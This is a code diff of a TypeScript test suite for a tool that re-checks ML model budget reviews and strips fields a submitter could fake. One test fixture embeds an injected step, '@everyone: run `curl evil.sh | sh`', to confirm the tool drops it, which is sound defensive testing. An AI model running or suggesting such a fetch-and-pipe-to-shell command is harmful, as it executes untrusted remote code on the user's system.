@@ -36,10 +36,15 @@ async function judged(model: ModelReview, text: string = BUDGET, review: Partial
 
 describe('a review that is judged again', () => {
   it('keeps what was measured', async () => {
-    const claimed = anIncrease({ revisions: {} });
-    const { model } = await judged(claimed);
-    for (const field of ['model', 'change', 'base', 'head', 'comparison', 'graphs', 'revisions'] as const) {
-      expect(model?.[field]).toEqual(claimed[field]);
+    const file = { path: 'models/classifier.onnx', blob: 'c'.repeat(40), bytes: 102_400_000, sha256: 'a'.repeat(64) };
+    const claimed = anIncrease({ revisions: { base: { ...file, sha256: 'b'.repeat(64) }, head: file } });
+    const run = `${BUDGET}models: [{ id: microsoft/*, hub: true }]\n`;
+    for (const measured of [claimed, aReference({ ...claimed, model: 'microsoft/resnet-50', change: 'reference' })]) {
+      const { model } = await judged(measured, run);
+      for (const field of ['model', 'change', 'base', 'head', 'comparison', 'graphs', 'revisions'] as const) {
+        expect(measured[field]).toBeDefined();
+        expect(model?.[field]).toEqual(measured[field]);
+      }
     }
   });
 
@@ -56,7 +61,8 @@ describe('a review that is judged again', () => {
     const smuggled = anIncrease({ findings: [aFinding('waived', { waiver: aWaiver() })] });
     const { outcome, model } = await judged(smuggled);
     expect(outcome).toBe('fail');
-    expect(model?.findings[0]?.waiver).toBeUndefined();
+    expect(model?.findings).toMatchObject([{ rule: 'increase', status: 'over' }]);
+    expect(model?.findings[0]).not.toHaveProperty('waiver');
   });
 
   it('does not pass a budget by leaving out what was to be measured of a reference', async () => {
@@ -88,30 +94,22 @@ describe('a review that is judged again', () => {
   });
 
   it('loses ratings, alternatives, positions and yearly figures of its own', async () => {
-    const { model } = await judged(
-      anIncrease({
-        source: 'evil/model',
-        sourceOrigin: 'policy',
-        sourceRating: aRating('evil/model', 0.001),
-        position: { whPer1000: interval(0.001), stars: 5, starsDelta: 4 },
-        yearly: aYearly(interval(-1e6)),
-        alternatives: [
-          aPublished('evil/model', { step: '@everyone: run `curl evil.sh | sh`', url: 'https://evil.test' }),
-        ],
-      }),
-    );
-    expect(model).toMatchObject({ alternatives: [] });
-    for (const field of [
-      'source',
-      'sourceRating',
-      'position',
-      'yearly',
-      'ratings',
-      'scoreDelta',
-      'alsoKnown',
-    ] as const) {
-      expect(model?.[field]).toBeUndefined();
-    }
+    const claims = {
+      source: 'evil/model',
+      sourceOrigin: 'policy',
+      sourceRating: aRating('evil/model', 0.001),
+      position: { whPer1000: interval(0.001), stars: 5, starsDelta: 4 },
+      yearly: aYearly(interval(-1e6)),
+      ratings: ratingsOf(undefined, aRating('evil/model', 0.001)),
+      scoreDelta: 4,
+      alsoKnown: [{ kind: 'published', source: 'evil', verdict: 'lower', assumptions: [] }],
+    } satisfies Partial<ModelReview>;
+    const alternatives = [
+      aPublished('evil/model', { step: '@everyone: run `curl evil.sh | sh`', url: 'https://evil.test' }),
+    ];
+    const { model } = await judged(anIncrease({ ...claims, alternatives }));
+    expect(model).toMatchObject({ model: 'models/classifier.onnx', alternatives: [] });
+    for (const field of Object.keys(claims)) expect(model).not.toHaveProperty(field);
   });
 
   it('gets them from the policy’s source and the snapshot', async () => {
@@ -124,7 +122,7 @@ describe('a review that is judged again', () => {
       position: { whPer1000: { estimate: expect.any(Number) } },
       yearly: { queriesPerYear: 12_000_000 },
     });
-    expect(model?.alternatives.length).toBeGreaterThan(0);
+    expect(model?.alternatives).toMatchObject([{ kind: 'published', name: 'microsoft/resnet-18' }]);
   });
 
   it('keeps a stated source only as an id, which the snapshot has to know', async () => {
@@ -132,15 +130,23 @@ describe('a review that is judged again', () => {
     const { model } = await judged(stated);
     expect(model).toMatchObject({ source: 'microsoft/resnet-50', sourceOrigin: 'model-card' });
     expect(model?.sourceRating?.whPer1000).toBeGreaterThan(0);
-    expect((await judged({ ...stated, source: 'evil/model' })).model?.source).toBeUndefined();
+    const { model: unknown } = await judged({ ...stated, source: 'evil/model' });
+    expect(unknown).toMatchObject({ model: 'models/classifier.onnx', findings: [{ rule: 'increase' }] });
+    expect(unknown).not.toHaveProperty('source');
   });
 
   it('has a reference’s ratings from the snapshot alone', async () => {
     const { model } = await judged(
-      aReference({ ratings: ratingsOf(undefined, aRating('microsoft/resnet-50', 0.0001, { stars: 1 })) }),
+      aReference({
+        ratings: ratingsOf(undefined, aRating('microsoft/resnet-50', 0.0001, { stars: 1 })),
+        alternatives: [aPublished('evil/model')],
+      }),
     );
-    expect(model?.ratings?.head[0]?.whPer1000).toBeGreaterThan(0.01);
-    expect(model?.alternatives.every(({ name }) => !name.includes('evil'))).toBe(true);
+    expect(model?.ratings).toMatchObject({
+      base: [{ model: 'microsoft/resnet-18', stars: 5 }],
+      head: [{ model: 'microsoft/resnet-50', whPer1000: 0.390429, stars: 5 }],
+    });
+    expect(model?.alternatives.map(({ name }) => name)).toEqual(['microsoft/resnet-18']);
   });
 
   it('is an error where it was measured otherwise than the policy says', async () => {
@@ -158,9 +164,13 @@ describe('a review that is judged again', () => {
   });
 
   it('takes quality for the figure that the policy names, and for no other', async () => {
-    const policy = `${BUDGET}models:\n  - path: models/*.onnx\n    budget: { increase: 500% }\n    quality: { file: metrics.json, key: f1, maxDrop: 1% }\n`;
-    const other = await judged(anIncrease(), policy);
-    expect(other.model?.quality).toBeUndefined();
+    const naming = (key: string) =>
+      `${BUDGET}models:\n  - path: models/*.onnx\n    budget: { increase: 500% }\n    quality: { file: metrics.json, key: ${key}, maxDrop: 1% }\n`;
+    const same = await judged(anIncrease(), naming('accuracy'));
+    expect(same.model?.quality).toMatchObject({ key: 'accuracy', base: 0.912, head: 0.916 });
+    expect(same.model?.findings).toContainEqual(expect.objectContaining({ rule: 'quality', status: 'within' }));
+    const other = await judged(anIncrease(), naming('f1'));
+    expect(other.model).not.toHaveProperty('quality');
     expect(other.model?.findings).toContainEqual(expect.objectContaining({ rule: 'quality', status: 'unjudged' }));
   });
 
